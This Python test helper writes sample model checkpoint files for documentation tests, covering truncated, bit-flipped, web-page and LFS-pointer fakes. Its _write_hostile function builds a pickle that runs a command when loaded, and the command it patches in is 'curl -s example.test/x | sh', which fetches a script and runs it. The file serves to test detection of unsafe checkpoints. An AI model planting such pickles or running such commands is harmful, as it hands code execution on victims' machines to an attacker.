"""The files that the pages speak of, in a folder of their own: what a reader has there is like them."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

from tests.docs.pages import ROOT

DEMO = ROOT / "resources" / "demo" / "demo.pth"
CORPUS = ROOT / "tests" / "data" / "corpus"
ERROR = """\
Traceback (most recent call last):
  File "train.py", line 5, in <module>
    checkpoint = torch.load("best.pth")
RuntimeError: Attempting to deserialize object on a CUDA device but torch.cuda.is_available() is False. \
If you are running on a CPU-only machine, please use torch.load with map_location=torch.device('cpu') \
to map your storages to the CPU.
"""
SCRIPT = """\
import torch

from model import Net

checkpoint = torch.load("best.pth")
model = Net()
model.load_state_dict(checkpoint["model"])
"""
WEB_PAGE = "<!DOCTYPE html><html><head><title>Sign in</title></head><body>Sign in to download</body></html>\n"
POINTER = """\
version https://git-lfs.github.com/spec/v1
oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393
size 133466304
"""


def write_samples(folder: Path) -> None:
    """Write all files that pages name."""
    for name in ("best.pth", "epoch-1.pth"):
        shutil.copy(DEMO, folder / name)
    _write_later(folder / "epoch-2.pth", epoch=51, step=3)
    epochs = folder / "epochs"
    epochs.mkdir()
    for epoch in (50, 51, 52):
        _write_later(epochs / f"epoch-{epoch}.pth", epoch=epoch, step=epoch - 50)
    (folder / "last.pth").write_bytes(DEMO.read_bytes())
    (folder / "runs").mkdir()
    for name in ("best.pth", "last.pth"):
        shutil.copy(DEMO, folder / "runs" / name)
    (folder / "half.pth").write_bytes(DEMO.read_bytes()[:-90_000])
    flipped = bytearray(DEMO.read_bytes())
    flipped[len(flipped) // 2] ^= 1
    (folder / "flipped.pth").write_bytes(flipped)
    (folder / "download.pth").write_text(WEB_PAGE, encoding="utf-8")
    (folder / "pointer.pth").write_text(POINTER, encoding="utf-8")
    _write_hostile(folder / "unknown.pth")
    (folder / "traceback.txt").write_text(ERROR, encoding="utf-8")
    (folder / "train.py").write_text(SCRIPT, encoding="utf-8")
    for name, place in _FROM_CORPUS.items():
        copy = shutil.copytree if (CORPUS / place).is_dir() else shutil.copy
        copy(CORPUS / place, folder / name)


_FROM_CORPUS = {
    "whole.pt": "zip/module_custom.pt",
    "last.ckpt": "frameworks/lightning.ckpt",
    "bert": "hf_sharded",
    "model.gguf": "gguf/small.gguf",
    "model.safetensors": "safetensors/all.safetensors",
    "quantized.pt": "../frameworks/torchao/dynamic_int8.pt",
}


def _write_hostile(path: Path) -> None:
    """Write a file that runs a command when it is loaded without care, one that is of no use."""
    with zipfile.ZipFile(CORPUS / "hostile" / "os_system.pt") as old, zipfile.ZipFile(path, "w") as new:
        for record in old.infolist():
            new.writestr(record.filename, old.read(record).replace(*_COMMANDS))


_COMMANDS = (b"touch /opt/any/format/PWNED", b"curl -s example.test/x | sh")
"""Of one length, as the pickle states it."""


def _write_later(path: Path, *, epoch: int, step: int) -> None:
    """Write the demo as it may be some epochs later: another epoch, and a head that has moved."""
    with zipfile.ZipFile(DEMO) as old, zipfile.ZipFile(path, "w") as new:
        for record in old.infolist():
            content = old.read(record)
            if record.filename.endswith("/data.pkl"):
                content = content.replace(b"K2", bytes([0x4B, epoch])) if step else content
            elif step and len(content) == _HEAD_BYTES:
                content = bytes(content[:-4]) + (0x3D000000 + 0x10000 * step).to_bytes(4, "little")
            new.writestr(record.filename, content)


_HEAD_BYTES = 1280
"""Of the weights of the demo's last layer, 10 times 32 float32 numbers; of its slots as well."""
